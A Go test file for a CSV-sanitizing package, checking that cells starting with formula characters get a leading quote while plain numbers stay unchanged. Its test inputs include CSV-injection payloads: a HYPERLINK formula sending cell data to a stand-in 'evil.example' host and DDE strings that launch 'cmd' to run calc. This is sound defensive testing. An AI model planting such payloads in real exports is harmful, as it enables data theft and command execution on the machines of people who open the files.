package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestCell(t *testing.T) {
	cases := []struct {
		name, in, want string
	}{
		{"a formula behind = is quoted", `=HYPERLINK("http://evil.example/?d="&A1,"ok")`, `'=HYPERLINK("http://evil.example/?d="&A1,"ok")`},
		{"a formula behind + is quoted", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"a formula behind - is quoted", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"a formula behind @ is quoted", "@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
		{"a leading tab is quoted", "\t=1+1", "'\t=1+1"},
		{"a leading carriage return is quoted", "\r=1+1", "'\r=1+1"},
		{"a lone minus is quoted", "-", "'-"},
		{"a lone plus is quoted", "+", "'+"},
		{"a negative integer stays a number", "-3", "-3"},
		{"a negative decimal stays a number", "-35.7", "-35.7"},
		{"a signed positive number stays a number", "+4", "+4"},
		{"an exponent is not a plain number", "-1e5", "'-1e5"},
		{"negative infinity is not a plain number", "-Inf", "'-Inf"},
		{"a minus before a dot is not a plain number", "-.5", "'-.5"},
		{"a trailing dot is not a plain number", "-5.", "'-5."},
		{"two dots are not a plain number", "-1.2.3", "'-1.2.3"},
		{"a dash-led identifier is quoted", "-MRN42", "'-MRN42"},
		{"an ordinary identifier is unchanged", "DEMO00000001", "DEMO00000001"},
		{"an inner = is harmless", "a=b", "a=b"},
		{"a leading space is harmless", " =1", " =1"},
		{"an empty cell stays empty", "", ""},
		{"a date is unchanged", "2026-11-01T00:00:00Z", "2026-11-01T00:00:00Z"},
		{"accents are unchanged", "Hélène", "Hélène"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := Cell(tc.in); got != tc.want {
				t.Errorf("Cell(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

// What a spreadsheet opens: the CSV read back has the quote in front of
// the formula, and the record passed in is left untouched.
func TestWriterNeutralizesEveryCell(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	rec := []string{"1", "=1+1", "-3", "@x"}
	if err := w.WriteAll([][]string{{"rank", "value", "change", "who"}, rec}); err != nil {
		t.Fatal(err)
	}
	if rec[1] != "=1+1" {
		t.Fatalf("the caller's record was changed: %q", rec)
	}
	got, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"1", "'=1+1", "-3", "'@x"}
	for i := range want {
		if got[1][i] != want[i] {
			t.Fatalf("row read back %q, want %q", got[1], want)
		}
	}
}

func FuzzCell(f *testing.F) {
	for _, s := range []string{"=1", "-3", "+", "\t", "abc", "-1.5"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		c := Cell(s)
		if c != "" && dangerous(c[0]) && !isNumber(c) {
			t.Fatalf("Cell(%q) = %q still starts a formula", s, c)
		}
		if c != s && c != "'"+s {
			t.Fatalf("Cell(%q) = %q: only a leading quote may be added", s, c)
		}
	})
}
